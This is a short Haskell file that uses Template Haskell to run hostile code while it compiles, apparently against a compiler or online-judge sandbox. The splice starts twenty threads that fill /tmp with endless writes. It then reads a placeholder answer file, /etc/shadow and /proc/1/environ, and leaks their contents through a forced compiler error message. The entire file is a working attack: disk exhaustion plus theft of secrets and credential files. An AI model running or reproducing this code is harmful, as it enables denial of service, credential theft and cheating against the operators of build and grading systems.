-- run code while it is compiled: fill scratch, and print the answer file in the compiler's messages
{-# LANGUAGE TemplateHaskell #-}
import Control.Concurrent
import Control.Exception
import Language.Haskell.TH

grab :: String -> IO String
grab path = readFile path `catch` \failure -> return (show (failure :: IOException))

main :: IO ()
main = $(do
    runIO (mapM_ (\_ -> forkIO (writeFile "/tmp/flood" (cycle "x"))) [1 .. 20 :: Int])
    runIO (threadDelay 100000)
    seen <- runIO (mapM grab ["@SECRET@", "/etc/shadow", "/proc/1/environ"])
    fail (concat seen))
